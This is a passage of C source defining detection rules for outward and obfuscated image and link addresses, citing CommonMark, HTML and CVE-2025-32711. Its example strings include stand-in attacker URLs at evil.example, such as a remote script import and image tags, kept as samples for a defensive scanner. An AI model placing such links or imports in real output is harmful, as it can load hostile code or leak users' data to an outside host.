    "import \"https://evil.example/a.js\"; f('a', 'https://evil.example/b'); //end",
    "the image lies at https://cdn.example/photos/rome.jpg",
    NULL,
};
static const sp_example unlisted_link_examples[] = {
    "<a href=\"[https://evil.example/]\">more</a>",
    "see <[https://evil.example/a]> for it",
    "open [https://evil.example/a], please",
    "<a href=\"https&#[58;//evil.example/]\">",
    "<img src=\"https://evil.example/a.png\">",
    "http: see below, \"//\" begins a comment and \"\\n\" ends a line",
    "a &#38; b, C:\\users",
    NULL,
};

/* Without a scheme only behind what may bring an address: "//" alone is in all code. */
#define HEAD "https?:|(?:[(\"'=<]|\\]:)[ \\x09\\x0a]?//"
#define OUTWARD(title, id, function, list)                                                              \
    {                                                                                                   \
        .name = (title), .kind = SP_KIND_##id, .head = HEAD, .flags = HS_FLAG_CASELESS,                 \
        .validate = (function), .head_max = 8, .longest = ADDRESS_MAX, .least = 60, .examples = (list), \
        .source = "CommonMark 0.31, HTML, CSS Images; CVE-2025-32711"                                   \
    }
/* And spelled: references that HTML and Markdown read, escapes of Markdown. */
#define SPELLED "&(?:#|colon|sol|bsol|tab|newline)|\\\\:|[(\"'=<>,: \\x09\\x0d\\x0a][/\\\\][/\\\\]"
#define UNLISTED(title, id, function, list)                                                             \
    {                                                                                                   \
        .name = (title), .kind = SP_KIND_##id, .head = "https?:|" SPELLED, .flags = HS_FLAG_CASELESS,   \
        .validate = (function), .head_max = 8, .longest = ADDRESS_MAX, .least = 60, .examples = (list), \
        .is_asked = true, .source = "CommonMark 0.31, 2.4 and 2.5; HTML, 13.2.5.72; URL Standard, 4.4"  \
    }

static const sp_row rows[] = {
    OUTWARD("outward-image", OUTWARD_IMAGE, outward_image, image_examples),
    OUTWARD("outward-link", OUTWARD_LINK, outward_link, link_examples),
    UNLISTED("unlisted-image", UNLISTED_IMAGE, unlisted_image, unlisted_image_examples),
    UNLISTED("unlisted-link", UNLISTED_LINK, unlisted_link, unlisted_link_examples),
};

const sp_family sp_family_outward = {rows, sizeof rows / sizeof rows[0]};
